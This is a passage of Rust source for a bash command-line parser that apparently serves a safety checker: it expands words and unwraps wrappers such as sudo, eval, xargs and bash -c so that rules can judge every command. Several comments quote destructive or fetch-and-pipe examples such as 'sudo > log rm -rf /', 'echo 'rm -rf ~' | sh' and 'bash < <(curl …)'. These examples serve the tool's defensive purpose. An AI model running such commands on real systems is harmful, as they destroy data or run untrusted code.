//! From a command line to every simple command it can run, with static words expanded.
//!
//! The line is parsed with tree-sitter-bash. Words are unquoted and expanded by our own code
//! wherever they are static (`r\m`, `'r'm`, `"rm"`, `$'\x72m'`, `{a,b}`, variables assigned a
//! literal earlier on the line). Wrappers (`bash -c`, `eval`, `sudo`, `xargs`, `find -exec`, …)
//! are unwrapped and their payload analysed as commands of their own. Anything that cannot be
//! read statically is marked dynamic, and a line that does not parse is marked as such: the
//! rules never allow what they cannot read.

use std::cell::RefCell;
use std::collections::HashMap;

use tree_sitter::{Node, Parser};

/// Lines longer than this are not parsed: they are too large to have been typed for a reason.
pub const MAX_LINE_BYTES: usize = 64 * 1024;
/// Nesting deeper than this (substitutions, wrappers, compound statements) stops the walk.
pub const MAX_DEPTH: usize = 48;
/// More simple commands than this stop the walk.
pub const MAX_COMMANDS: usize = 4096;

/// One word after expansion.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Word {
    /// The static text; for dynamic parts, the source text as written.
    pub text: String,
    /// True when some part could not be expanded statically (a variable, a substitution).
    pub dynamic: bool,
    /// True when the word has unquoted glob characters (`*`, `?`, `[`).
    pub glob: bool,
}

impl Word {
    fn literal(text: impl Into<String>) -> Self {
        Word { text: text.into(), dynamic: false, glob: false }
    }
}

/// A redirection: `>`, `>>`, `<`, `&>`, `>&`, here-strings and here-documents.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Redirect {
    /// The operator as written: `>`, `>>`, `<`, `&>`, `>&`, `<<<`, `<<`.
    pub op: String,
    /// The file descriptor, when written (`2>`).
    pub fd: Option<u32>,
    /// The target: a file, a descriptor number, or the here-string / here-document text.
    pub target: Word,
}

impl Redirect {
    /// True for redirections that write to their target.
    pub fn writes(&self) -> bool {
        self.op.contains('>') && !self.target.text.chars().all(|c| c.is_ascii_digit() || c == '-')
    }
}

/// How a command relates to the one that contains it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Relation {
    /// Its output becomes part of the parent's words: `$(…)`, `` `…` ``, `<(…)`.
    Substitution,
    /// It is the payload of a wrapper: `bash -c`, `sudo`, `xargs`, `find -exec`, `eval`, …
    Wrapped,
    /// It is a script fed to a shell on its standard input: a here-document, or static text
    /// piped in by `echo` or `printf`.
    HereDoc,
}

/// One simple command the line can run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Command {
    /// The words, expanded; `argv[0]` is the command name.
    pub argv: Vec<Word>,
    /// `NAME=value` words before the name.
    pub assignments: Vec<(String, Word)>,
    /// Redirections on the command or on a compound statement around it.
    pub redirects: Vec<Redirect>,
    /// The pipeline it belongs to and its position there.
    pub pipeline: Option<(usize, usize)>,
    /// The command that contains it, and how.
    pub parent: Option<(usize, Relation)>,
    /// True when it was found inside a function body, loop or conditional.
    pub nested: bool,
}

impl Command {
    /// The command name's last path component (`rm` for `/bin/rm`), or "" when dynamic.
    pub fn name(&self) -> &str {
        match self.argv.first() {
            Some(w) if !w.dynamic => w.text.rsplit('/').next().unwrap_or_default(),
            _ => "",
        }
    }

    /// True when the name cannot be read statically.
    pub fn dynamic_name(&self) -> bool {
        self.argv.first().is_none_or(|w| w.dynamic || w.text.is_empty())
    }

    /// The arguments after the name.
    pub fn args(&self) -> &[Word] {
        self.argv.get(1..).unwrap_or_default()
    }

    /// True when an argument equals `flag` or, for a short flag, appears in a cluster (`-rf`).
    pub fn has_flag(&self, short: Option<char>, long: Option<&str>) -> bool {
        self.args().iter().any(|w| {
            let t = w.text.as_str();
            long.is_some_and(|l| t == l || t.strip_prefix(l).is_some_and(|rest| rest.starts_with('=')))
                || short.is_some_and(|s| t.starts_with('-') && !t.starts_with("--") && t[1..].contains(s))
        })
    }
}

/// Why analysis stopped short.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Incomplete {
    /// The line has a syntax error or is cut off.
    ParseError,
    /// The line is longer than [`MAX_LINE_BYTES`].
    TooLong,
    /// Nesting deeper than [`MAX_DEPTH`] or more than [`MAX_COMMANDS`] commands.
    TooDeep,
    /// The line was not valid UTF-8.
    NotUtf8,
}

/// Every simple command of a line.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Parsed {
    /// The commands, in the order they appear (wrapped payloads follow their wrapper).
    pub commands: Vec<Command>,
    /// Set when part of the line could not be read.
    pub incomplete: Option<Incomplete>,
    /// Names of functions defined on the line.
    pub functions: Vec<String>,
}

thread_local! {
    static PARSER: RefCell<Option<Parser>> = const { RefCell::new(None) };
}

/// Parses a line that may not be UTF-8 (as an exec's argv can be).
pub fn parse_bytes(line: &[u8]) -> Parsed {
    match std::str::from_utf8(line) {
        Ok(s) => parse(s),
        Err(_) => {
            let mut parsed = parse(&String::from_utf8_lossy(line));
            parsed.incomplete = Some(Incomplete::NotUtf8);
            parsed
        }
    }
}

/// The command an exec runs, from its words as the program received them: no shell reads
/// them, so they are taken literally (no quoting, expansion or globbing), then unwrapped like a
/// command line's (`sudo`, `env`, `sh -c SCRIPT`, ...). The same result as parsing the words
/// single-quoted, without the parser: a quoted command name is not on the fast path, and the
/// exec monitor asks this for every exec.
pub(crate) fn parse_argv(argv: &[Vec<u8>]) -> Parsed {
    let mut walker = Walker { fast: true, ..Walker::default() };
    let mut not_utf8 = false;
    let words: Vec<Word> = argv
        .iter()
        .map(|a| {
            Word::literal(String::from_utf8(a.clone()).unwrap_or_else(|e| {
                not_utf8 = true;
                String::from_utf8_lossy(e.as_bytes()).into_owned()
            }))
        })
        .collect();
    if !words.is_empty() {
        let command = Command {
            argv: words,
            assignments: Vec::new(),
            redirects: Vec::new(),
            pipeline: None,
            parent: None,
            nested: false,
        };
        let index = walker.push(command);
        walker.unwrap(index, 0);
    }
    let incomplete = if not_utf8 { Some(Incomplete::NotUtf8) } else { walker.incomplete };
    Parsed { commands: walker.commands, incomplete, functions: walker.functions }
}

/// Parses a command line into its simple commands.
pub fn parse(line: &str) -> Parsed {
    parse_with(line, true)
}

/// Parses with or without the fast path (the tests compare the two).
pub(crate) fn parse_with(line: &str, fast: bool) -> Parsed {
    let mut walker = Walker { fast, ..Walker::default() };
    walker.line(line, None, 0);
    Parsed { commands: walker.commands, incomplete: walker.incomplete, functions: walker.functions }
}

#[derive(Default)]
struct Walker {
    commands: Vec<Command>,
    incomplete: Option<Incomplete>,
    functions: Vec<String>,
    vars: HashMap<String, Option<String>>,
    /// Whether simple lines and scripts may skip the full parser.
    fast: bool,
    /// For each list or pipeline node, the index of the first command of its last element.
    tails: HashMap<usize, usize>,
    /// The next free position of each pipeline.
    pipelines: Vec<usize>,
}

/// Where a command sits: its parent, pipeline slot and nesting.
#[derive(Clone, Copy, Default)]
struct Place {
    parent: Option<(usize, Relation)>,
    pipeline: Option<(usize, usize)>,
    nested: bool,
}

impl Walker {
    fn stop(&mut self, why: Incomplete) {
        if self.incomplete.is_none() || why != Incomplete::ParseError {
            self.incomplete = Some(why);
        }
    }

    /// Parses `src` and walks it as commands placed under `parent`.
    fn line(&mut self, src: &str, parent: Option<(usize, Relation)>, depth: usize) {
        if src.len() > MAX_LINE_BYTES {
            self.stop(Incomplete::TooLong);
            return;
        }
        if depth > MAX_DEPTH {
            self.stop(Incomplete::TooDeep);
            return;
        }
        if self.fast {
            if let Some(items) = super::fast::simple(src) {
                self.simple_items(items, parent, depth);
                return;
            }
            if let Some(chunks) = super::fast::chunks(src).filter(|c| c.len() > 1) {
                for chunk in chunks {
                    self.line(chunk, parent, depth + 1);
                }
                return;
            }
        }
        let tree = PARSER.with(|cell| {
            let mut slot = cell.borrow_mut();
            let parser = slot.get_or_insert_with(|| {
                let mut p = Parser::new();
                // The grammar is compiled in; a version mismatch would fail every parse below.
                let _ = p.set_language(&tree_sitter_bash::LANGUAGE.into());
                p
            });
            parser.parse(src, None)
        });
        let Some(tree) = tree else {
            self.stop(Incomplete::ParseError);
            return;
        };
        let root = tree.root_node();
        if root.has_error() {
            self.stop(Incomplete::ParseError);
        }
        let place = Place { parent, ..Place::default() };
        self.node(root, src, place, depth);
    }

    /// Records the statements of a line the fast path read.
    fn simple_items(&mut self, items: Vec<super::fast::Item>, parent: Option<(usize, Relation)>, depth: usize) {
        use super::fast::Item;
        let base = self.pipelines.len();
        for item in items {
            match item {
                Item::Assign(name, value) => {
                    let value = self.fast_word(value, false);
                    self.vars.insert(name.clone(), (!value.dynamic).then(|| value.text.clone()));
                    self.bare_assignment(name, value, parent, false);
                }
                Item::Unknown(name) => {
                    self.vars.insert(name, None);
                }
                Item::Command { assigns, words, redirects, pipeline, nested } => {
                    let pipeline = pipeline.map(|(local, pos)| {
                        while self.pipelines.len() <= base + local {
                            self.pipelines.push(0);
                        }
                        self.pipelines[base + local] = self.pipelines[base + local].max(pos + 1);
                        (base + local, pos)
                    });
                    let mut words = words.into_iter().map(|(parts, glob)| self.fast_word(parts, glob));
                    let mut argv: Vec<Word> = words.next().into_iter().collect();
                    argv.extend(words.collect::<Vec<_>>().into_iter().flat_map(expand_braces));
                    let assignments = assigns.into_iter().map(|(n, v)| (n, self.fast_word(v, false))).collect();
                    let command = Command {
                        argv,
                        assignments,
                        redirects: redirects
                            .into_iter()
                            .map(|(op, fd, target)| Redirect { op, fd, target: Word::literal(target) })
                            .collect(),
                        pipeline,
                        parent,
                        nested,
                    };
                    let index = self.push(command);
                    self.unwrap(index, depth);
                }
            }
        }
    }

    /// A fast-path word, with variables expanded as `word` expands them.
    fn fast_word(&self, parts: Vec<super::fast::Part>, glob: bool) -> Word {
        let mut out = Word { text: String::new(), dynamic: false, glob };
        for part in parts {
            match part {
                super::fast::Part::Lit(text) => out.text.push_str(&text),
                super::fast::Part::Var { name, source } => match self.vars.get(&name) {
                    Some(Some(value)) => out.text.push_str(value),
                    _ if name == "HOME" => out.text.push('~'),
                    _ => {
                        out.text.push_str(&source);
                        out.dynamic = true;
                    }
                },
            }
        }
        out
    }

    fn text<'s>(node: Node<'_>, src: &'s str) -> &'s str {
        src.get(node.byte_range()).unwrap_or_default()
    }

    fn node(&mut self, node: Node<'_>, src: &str, place: Place, depth: usize) {
        if depth > MAX_DEPTH || self.commands.len() >= MAX_COMMANDS {
            self.stop(Incomplete::TooDeep);
            return;
        }
        if node.is_missing() || node.kind() == "ERROR" {
            self.stop(Incomplete::ParseError);
        }
        match node.kind() {
            "command" => self.command(node, src, place, &[], depth),
            "pipeline" => {
                // tree-sitter nests `a | b > f | c` as pipelines inside redirected statements;
                // an inner pipeline continues the outer one.
                let id = match place.pipeline {
                    Some((id, _)) => id,
                    None => {
                        self.pipelines.push(0);
                        self.pipelines.len() - 1
                    }
                };
                let mut cursor = node.walk();
                let last = node.named_child_count().saturating_sub(1);
                for (n, child) in node.named_children(&mut cursor).enumerate() {
                    if n == last {
                        self.tails.insert(node.id(), self.commands.len());
                    }
                    let index = self.pipelines[id];
                    self.pipelines[id] += 1;
                    let slot = Place { pipeline: Some((id, index)), ..place };
                    self.node(child, src, slot, depth + 1);
                }
            }
            "redirected_statement" => {
                let first = self.commands.len();
                let mut redirects = Vec::new();
                let mut body = None;
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    if child.kind().ends_with("redirect") {
                        redirects.push(child);
                    } else {
                        body = Some(child);
                    }
                }
                let mut suffix = Vec::new();
                for r in &redirects {
                    suffix.extend(self.redirect_words(*r, src, place, depth));
                }
                match body {
                    Some(body) if body.kind() == "command" => self.command(body, src, place, &suffix, depth + 1),
                    Some(body) if body.kind() == "variable_assignment" => {
                        // `A=1 > f` still opens `f`: the assignment's nameless command carries
                        // the redirect.
                        self.node(body, src, place, depth + 1);
                        match self.commands.len().checked_sub(1).filter(|last| *last >= first) {
                            Some(last) => self.commands[last].argv.extend(suffix.iter().cloned()),
                            None => {
                                let mut argv = vec![Word::literal("")];
                                argv.extend(suffix.iter().cloned());
                                self.bare_command(argv, place, depth);
                            }
                        }
                    }
                    Some(body) => {
                        self.node(body, src, place, depth + 1);
                        if !suffix.is_empty() {
                            self.stop(Incomplete::ParseError);
                        }
                    }
                    // `> /var/log/x` on its own truncates the file: a nameless command carries it.
                    None => {
                        let mut argv = vec![Word::literal("")];
                        argv.extend(suffix.iter().cloned());
                        self.bare_command(argv, place, depth);
                    }
                }
                let body_end = self.commands.len();
                for r in redirects {
                    // `cat <<EOF | sh`: tree-sitter puts `| sh` inside the here-document
                    // redirect; it continues a pipeline that starts with the body.
                    let mut inner = place;
                    if r.kind() == "heredoc_redirect" && first < body_end {
                        let id = match self.commands[first].pipeline {
                            Some((id, _)) => id,
                            None => {
                                self.pipelines.push(1);
                                let id = self.pipelines.len() - 1;
                                for cmd in &mut self.commands[first..body_end] {
                                    cmd.pipeline = Some((id, 0));
                                }
                                id
                            }
                        };
                        inner.pipeline = Some((id, self.pipelines[id]));
                    }
                    // `a | b > f` and `a && b > f` redirect only `b`: tree-sitter puts the
                    // redirection on the whole pipeline or list, bash on its last command.
                    let mut from = first;
                    let mut tail = body;
                    while let Some(n) = tail.filter(|n| matches!(n.kind(), "list" | "pipeline")) {
                        from = self.tails.get(&n.id()).copied().unwrap_or(from).max(from);
                        tail =
                            u32::try_from(n.named_child_count().saturating_sub(1)).ok().and_then(|i| n.named_child(i));
                    }
                    // `bash < <(curl …)`: what a file redirection substitutes feeds that command.
                    if r.kind() == "file_redirect" && from < body_end {
                        inner.parent = Some((from, Relation::Substitution));
                    }
                    let redirect = self.redirect(r, src, inner, depth);
                    for cmd in &mut self.commands[from..body_end] {
                        cmd.redirects.push(redirect.clone());
                    }
                    if r.kind() == "heredoc_redirect" && first < body_end {
                        self.heredoc(first, &redirect, depth);
                    }
                }
            }
            "variable_assignment" => {
                let text = Self::text(node, src);
                if text.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') {
                    let (name, value) = self.assignment(node, src, place, depth);
                    self.bare_assignment(name, value, place.parent, place.nested);
                } else {
                    // tree-sitter-bash reads `--x=y` as an assignment; bash runs it as a command.
                    self.bare_command(vec![Word::literal(text)], place, depth);
                }
            }
            "declaration_command" | "unset_command" => {
                // `export A=b`, `local x`, `unset HTTP_PROXY`: a command named by its keyword.
                let mut argv = vec![Word::literal(Self::text(node, src).split_whitespace().next().unwrap_or_default())];
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    if child.kind() == "variable_assignment" {
                        let (name, value) = self.assignment(child, src, place, depth);
                        argv.push(Word { text: format!("{name}={}", value.text), ..value });
                    } else {
                        argv.push(self.word(child, src, place, depth));
                    }
                }
                self.bare_command(argv, place, depth);
            }
            "list" => {
                let mut cursor = node.walk();
                let last = node.named_child_count().saturating_sub(1);
                for (n, child) in node.named_children(&mut cursor).enumerate() {
                    if n == last {
                        self.tails.insert(node.id(), self.commands.len());
                    }
                    self.node(child, src, place, depth + 1);
                }
            }
            "function_definition" => {
                if let Some(name) = node.child_by_field_name("name") {
                    self.functions.push(Self::text(name, src).to_owned());
                }
                let nested = Place { nested: true, ..place };
                if let Some(body) = node.child_by_field_name("body") {
                    self.node(body, src, nested, depth + 1);
                }
            }
            "for_statement" | "c_style_for_statement" => {
                if let Some(var) = node.child_by_field_name("variable") {
                    self.vars.insert(Self::text(var, src).to_owned(), None);
                }
                self.children(node, src, Place { nested: true, ..place }, depth);
            }
            "while_statement" | "if_statement" | "case_statement" | "case_item" | "elif_clause" | "else_clause" => {
                self.children(node, src, Place { nested: true, ..place }, depth);
            }
            "command_substitution" | "process_substitution" => {
                // Reached outside a word (a bare `$(…)` statement): its commands run.
                self.children(node, src, place, depth);
            }
            _ => self.children(node, src, place, depth),
        }
    }

    fn children(&mut self, node: Node<'_>, src: &str, place: Place, depth: usize) {
        let mut cursor = node.walk();
        for child in node.named_children(&mut cursor) {
            self.node(child, src, place, depth + 1);
        }
    }

    /// Records a command made of `argv` alone, at `place`, and unwraps it.
    fn bare_command(&mut self, argv: Vec<Word>, place: Place, depth: usize) {
        let command = Command {
            argv,
            assignments: Vec::new(),
            redirects: Vec::new(),
            pipeline: place.pipeline,
            parent: place.parent,
            nested: place.nested,
        };
        let index = self.push(command);
        self.unwrap(index, depth);
    }

    /// Records `NAME=value` on its own as a nameless command carrying the assignment: it sets
    /// the shell's own variable (`HISTFILE=`, `HTTPS_PROXY=`), which the rules judge.
    fn bare_assignment(&mut self, name: String, value: Word, parent: Option<(usize, Relation)>, nested: bool) {
        self.push(Command {
            argv: vec![Word::literal("")],
            assignments: vec![(name, value)],
            redirects: Vec::new(),
            pipeline: None,
            parent,
            nested,
        });
    }

    fn push(&mut self, command: Command) -> usize {
        self.commands.push(command);
        self.commands.len() - 1
    }

    /// Records `name=value` and returns it; a non-static value makes the variable unknown.
    fn assignment(&mut self, node: Node<'_>, src: &str, place: Place, depth: usize) -> (String, Word) {
        let name = node.child_by_field_name("name").map(|n| Self::text(n, src).to_owned()).unwrap_or_default();
        let value = match node.child_by_field_name("value") {
            Some(v) => self.word(v, src, place, depth),
            None => Word::literal(""),
        };
        self.vars.insert(name.clone(), (!value.dynamic).then(|| value.text.clone()));
        (name, value)
    }

    fn command(&mut self, node: Node<'_>, src: &str, place: Place, suffix: &[Word], depth: usize) {
        // Reserve the slot first so substitutions inside the words can name this command.
        let index = self.push(Command {
            argv: Vec::new(),
            assignments: Vec::new(),
            redirects: Vec::new(),
            pipeline: place.pipeline,
            parent: place.parent,
            nested: place.nested,
        });
        let inner = Place { parent: Some((index, Relation::Substitution)), pipeline: None, nested: place.nested };
        let mut argv: Vec<Word> = Vec::new();
        let mut assignments = Vec::new();
        let mut redirects = Vec::new();
        let mut cursor = node.walk();
        let mut previous_end: Option<usize> = None;
        for child in node.named_children(&mut cursor) {
            // SECURITY: tree-sitter-bash sometimes joins lines into one command (found by the
            // fast-path differential test). An unescaped newline between two words of one
            // command means the tree is wrong, so the line is not read as clean.
            if let Some(end) = previous_end {
                let gap = src.get(end..child.start_byte()).unwrap_or_default();
                if gap.match_indices('\n').any(|(i, _)| !gap[..i].ends_with('\\')) {
                    self.stop(Incomplete::ParseError);
                }
            }
            previous_end = Some(child.end_byte());
            match child.kind() {
                "variable_assignment"
                    if !Self::text(child, src).starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') =>
                {
                    // `--x=y cmd`: not an assignment to bash, but the command's first word.
                    argv.push(Word::literal(Self::text(child, src)));
                }
                "variable_assignment" => {
                    let name =
                        child.child_by_field_name("name").map(|n| Self::text(n, src).to_owned()).unwrap_or_default();
                    let value = child
                        .child_by_field_name("value")
                        .map_or_else(|| Word::literal(""), |v| self.word(v, src, inner, depth));
                    assignments.push((name, value));
                }
                k if k.ends_with("redirect") => {
                    let redirect = self.redirect(child, src, inner, depth);
                    redirects.push(redirect);
                    let words = self.redirect_words(child, src, inner, depth);
                    argv.extend(words.into_iter().flat_map(expand_braces));
                }
                "command_name" => {
                    let word =
                        child.named_child(0).map_or_else(|| Word::literal(""), |w| self.word(w, src, inner, depth));
                    argv.push(word);
                }
                _ => {
                    let word = self.word(child, src, inner, depth);
                    argv.extend(expand_braces(word));
                }
            }
        }
        argv.extend(suffix.iter().cloned().flat_map(expand_braces));
        if argv.is_empty() {
            // A bare assignment with a redirect or substitution: no command runs by name.
            argv.push(Word::literal(""));
        }
        let cmd = &mut self.commands[index];
        cmd.argv = argv;
        cmd.assignments = assignments;
        cmd.redirects = redirects;
        // Here-documents and here-strings are a shell's script when a shell reads them.
        if self.commands[index].redirects.iter().any(|r| r.op == "<<" || r.op == "<<<") {
            let redirect = self.commands[index].redirects.iter().find(|r| r.op == "<<" || r.op == "<<<").cloned();
            if let Some(r) = redirect {
                self.heredoc(index, &r, depth);
            }
        }
        self.unwrap(index, depth);
    }

    fn redirect(&mut self, node: Node<'_>, src: &str, place: Place, depth: usize) -> Redirect {
        let mut op = String::new();
        let mut fd = None;
        let mut target: Option<Word> = None;
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            if target.is_some()
                && child.is_named()
                && !child.kind().starts_with("heredoc")
                && child.kind() != "pipeline"
            {
                // Later destinations are the command's words (see `redirect_words`).
                continue;
            }
            match child.kind() {
                "file_descriptor" => fd = Self::text(child, src).parse().ok(),
                "heredoc_start" => {}
                "heredoc_body" => target = Some(Word::literal(Self::text(child, src))),
                "heredoc_end" => {}
                "pipeline" | "command" | "list" | "redirected_statement" => {
                    // `cat <<EOF | sh`: the rest of the line after the here-document start.
                    self.node(child, src, Place { parent: None, ..place }, depth + 1);
                }
                _ if !child.is_named() => op.push_str(child.kind()),
                _ => target = Some(self.word(child, src, place, depth)),
            }
        }
        if node.kind() == "heredoc_redirect" {
            op = "<<".into();
        }
        let target = target.unwrap_or_else(|| Word::literal(""));
        Redirect { op, fd, target }
    }

    /// Words tree-sitter-bash files under a redirection but bash gives to the command:
    /// `sudo > log rm -rf /` runs `sudo rm -rf /`. A number glued to the next redirection is
    /// that redirection's descriptor (`>& x 0>&1`), not a word.
    fn redirect_words(&mut self, node: Node<'_>, src: &str, place: Place, depth: usize) -> Vec<Word> {
        if node.kind() != "file_redirect" {
            return Vec::new();
        }
        let mut cursor = node.walk();
        let destinations: Vec<Node<'_>> = node.children_by_field_name("destination", &mut cursor).skip(1).collect();
        let next_start = node.next_sibling().map(|n| n.start_byte());
        destinations
            .into_iter()
            .filter(|d| {
                !(d.kind() == "number"
                    && (Some(d.end_byte()) == next_start
                        || d.end_byte() == node.end_byte() && next_start.is_some_and(|n| n == d.end_byte())))
            })
            .map(|d| self.word(d, src, place, depth))
            .collect()
    }

    /// A shell fed a here-document runs its text, directly or through `cat <<EOF | sh`.
    fn heredoc(&mut self, index: usize, redirect: &Redirect, depth: usize) {
        if redirect.target.dynamic {
            return;
        }
        let cmd = &self.commands[index];
        let runner = if is_shell(cmd.name()) {
            Some(index)
        } else if matches!(cmd.name(), "cat" | "tee" | "dd" | "head" | "tail") {
            let here = cmd.pipeline;
            self.commands.iter().enumerate().skip(index + 1).find_map(|(i, c)| {
                let same = matches!((c.pipeline, here), (Some((a, _)), Some((b, _))) if a == b);
                (same && is_shell(c.name())).then_some(i)
            })
        } else {
            None
        };
        if let Some(runner) = runner {
            let body = redirect.target.text.clone();
            self.line(&body, Some((runner, Relation::HereDoc)), depth + 1);
        }
    }

    /// Expands one word node.
    fn word(&mut self, node: Node<'_>, src: &str, place: Place, depth: usize) -> Word {
        let text = Self::text(node, src);
        match node.kind() {
            "word" | "number" => {
                let (text, glob) = unescape_word(text);
                let text = match text.strip_prefix('~') {
                    Some(rest) if rest.is_empty() || rest.starts_with('/') => format!("~{rest}"),
                    _ => text,
                };
                Word { text, dynamic: false, glob }
            }
            "raw_string" => Word::literal(text.trim_start_matches('\'').trim_end_matches('\'')),
            "ansi_c_string" => Word::literal(ansi_c(text.trim_start_matches("$'").trim_end_matches('\''))),
            "concatenation" => {
                let mut out = Word::literal("");
                let mut cursor = node.walk();
                for child in node.children(&mut cursor) {
                    let part = if child.is_named() {
                        self.word(child, src, place, depth)
                    } else {
                        Word::literal(Self::text(child, src))
                    };
                    out.text.push_str(&part.text);
                    out.dynamic |= part.dynamic;
                    out.glob |= part.glob;
                }
                out
            }
            "string" | "translated_string" => {
                // The text between the quotes, piece by piece: tree-sitter leaves some literal
                // runs (such as whitespace) out of the children, so gaps are read from the source.
                let open = if node.kind() == "translated_string" { 2 } else { 1 };
                let (inner_start, inner_end) = (node.start_byte() + open, node.end_byte().saturating_sub(1));
                let mut out = Word::literal("");
                let mut at = inner_start;
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    if child.start_byte() > at {
                        out.text.push_str(&unescape_double_quoted(src.get(at..child.start_byte()).unwrap_or_default()));
                    }
                    let part = if child.kind() == "string_content" {
                        Word::literal(unescape_double_quoted(Self::text(child, src)))
                    } else {
                        self.word(child, src, place, depth)
                    };
                    out.text.push_str(&part.text);
                    out.dynamic |= part.dynamic;
                    at = child.end_byte();
                }
                if inner_end > at {
                    out.text.push_str(&unescape_double_quoted(src.get(at..inner_end).unwrap_or_default()));
                }
                out
            }
            "simple_expansion" | "expansion" => {
                // Inside a string, tree-sitter-bash may start the node at the whitespace before
                // the `$`; that whitespace is literal text.
                let trimmed = text.trim_start();
                let lead = &text[..text.len() - trimmed.len()];
                let name = trimmed.trim_start_matches('$').trim_start_matches('{').trim_end_matches('}');
                match self.vars.get(name) {
                    Some(Some(value)) => Word::literal(format!("{lead}{value}")),
                    _ if name == "HOME" => Word::literal(format!("{lead}~")),
                    _ => Word { text: text.to_owned(), dynamic: true, glob: false },
                }
            }
            "command_substitution" | "process_substitution" => {
                self.children(node, src, place, depth);
                Word { text: text.to_owned(), dynamic: true, glob: false }
            }
            _ => {
                // Arithmetic, arrays and anything else: walk for substitutions, and call it dynamic.
                self.children(node, src, place, depth);
                Word { text: text.to_owned(), dynamic: true, glob: false }
            }
        }
    }

    /// Adds the payload of a wrapper command as commands of their own.
    fn unwrap(&mut self, index: usize, depth: usize) {
        let cmd = &self.commands[index];
        if cmd.dynamic_name() {
            return;
        }
        let place = Place { parent: Some((index, Relation::Wrapped)), pipeline: cmd.pipeline, nested: cmd.nested };
        let args = cmd.args().to_vec();
        let name = cmd.name().to_owned();
        match name.as_str() {
            n if is_shell(n) => {
                // `bash -c SCRIPT`, `bash -lc SCRIPT`, `bash script.sh` is left to the file.
                if let Some(pos) = args
                    .iter()
                    .position(|a| a.text.starts_with('-') && !a.text.starts_with("--") && a.text.contains('c'))
                    && let Some(script) = args.get(pos + 1)
                {
                    if script.dynamic {
                        return;
                    }
                    let script = script.text.clone();
                    self.payload(&script, index, Relation::Wrapped, depth);
                } else if shell_reads_stdin(&args)
                    && let Some(text) = piped_text(&self.commands, index)
                {
                    // `echo 'rm -rf ~' | sh`: static text piped into a shell is its script.
                    self.payload(&text, index, Relation::HereDoc, depth);
                }
            }
            "eval" if args.iter().all(|a| !a.dynamic) => {
                let script = args.iter().map(|a| a.text.as_str()).collect::<Vec<_>>().join(" ");
                self.payload(&script, index, Relation::Wrapped, depth);
            }
            "find" => {
                // `{}` stands for what find found: the starting point itself when no test
                // narrows the search, something unknown below it otherwise.
                let roots: Vec<&Word> =
                    args.iter().take_while(|a| !a.text.starts_with('-') && a.text != "(" && a.text != "!").collect();
                let filtered = args.iter().any(|a| FIND_TESTS.contains(&a.text.as_str()));
                let found = match roots.first() {
                    Some(root) if !filtered => (*root).clone(),
                    Some(root) => {
                        Word { text: format!("{}/…", root.text.trim_end_matches('/')), dynamic: true, glob: false }
                    }
                    None if !filtered => Word::literal("."),
                    None => Word { text: "./…".into(), dynamic: true, glob: false },
                };
                let mut i = 0;
                while i < args.len() {
                    if matches!(args[i].text.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
                        let end = args[i + 1..]
                            .iter()
                            .position(|a| a.text == ";" || a.text == "+")
                            .map_or(args.len(), |p| i + 1 + p);
                        let payload = args[i + 1..end]
                            .iter()
                            .map(|a| if a.text == "{}" { found.clone() } else { a.clone() })
                            .collect();
                        self.derived(payload, place, depth);
                        i = end;
                    }
                    i += 1;
                }
            }
            "xargs" => {
                let rest = skip_options(
                    &args,
                    &[
                        "-a",
                        "-d",
                        "-E",
                        "-e",
                        "-I",
                        "-i",
                        "-L",
                        "-l",
                        "-n",
                        "-P",
                        "-s",
                        "--arg-file",
                        "--delimiter",
                        "--max-args",
                        "--max-procs",
                        "--max-lines",
                        "--replace",
                        "--max-chars",
                        "--process-slot-var",
                    ],
                );
                let mut argv = if rest.is_empty() { vec![Word::literal("echo")] } else { rest.to_vec() };
                // xargs appends the words it reads: known when `echo` or `printf` with static
                // words feeds it, unknown otherwise.
                let fed = self.commands[..index].iter().rev().find(|c| {
                    matches!((c.pipeline, self.commands[index].pipeline), (Some((a, i)), Some((b, j))) if a == b && i + 1 == j)
                });
                match fed {
                    Some(c) if matches!(c.name(), "echo" | "printf") && c.args().iter().all(|w| !w.dynamic) => {
                        argv.extend(c.args().iter().filter(|w| !w.text.starts_with('-')).cloned());
                    }
                    _ => argv.push(Word { text: XARGS_INPUT.into(), dynamic: true, glob: false }),
                }
                self.derived(argv, place, depth);
            }
            "env" => {
                let mut rest = skip_options(&args, &["-u", "--unset", "-C", "--chdir", "-S", "--split-string"]);
                while rest.first().is_some_and(|w| is_assignment_text(&w.text)) {
                    rest = &rest[1..];
                }
                if !rest.is_empty() {
                    self.derived(rest.to_vec(), place, depth);
                }
            }
            "sudo" | "doas" => {
                let rest = skip_options(
                    &args,
                    &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T", "--user", "--group", "--chdir"],
                );
                if !rest.is_empty() {
                    self.derived(rest.to_vec(), place, depth);
                }
            }
            "timeout" => {
                let rest = skip_options(&args, &["-s", "-k", "--signal", "--kill-after"]);
                if rest.len() > 1 {
                    self.derived(rest[1..].to_vec(), place, depth);
                }
            }
            "nice" | "ionice" | "nohup" | "command" | "exec" | "builtin" | "time" | "stdbuf" | "setsid" | "chrt"
            | "taskset" | "unbuffer" | "torsocks" | "proxychains" | "proxychains4" | "caffeinate" | "watch"
            | "strace" | "ltrace" | "flock" => {
                let rest = skip_options(
                    &args,
                    &["-n", "-c", "-p", "-i", "-o", "-e", "-s", "--adjustment", "--class", "--classdata", "-w", "-E"],
                );
                let rest = match name.as_str() {
                    // `chrt PRIO cmd`, `taskset MASK cmd`, `flock FILE cmd`: one positional first.
                    "chrt" | "taskset" | "flock" => rest.get(1..).unwrap_or_default(),
                    _ => rest,
                };
                // `xargs command`: the words xargs appends are not a command name.
                if rest.first().is_some_and(|w| w.text != XARGS_INPUT) {
                    self.derived(rest.to_vec(), place, depth);
                }
            }
            "busybox" | "toybox" if !args.is_empty() => {
                self.derived(args, place, depth);
            }
            _ => {}
        }
    }

    /// Analyses a script a wrapper runs (`bash -c`, `eval`, a shell fed `echo`); it writes where
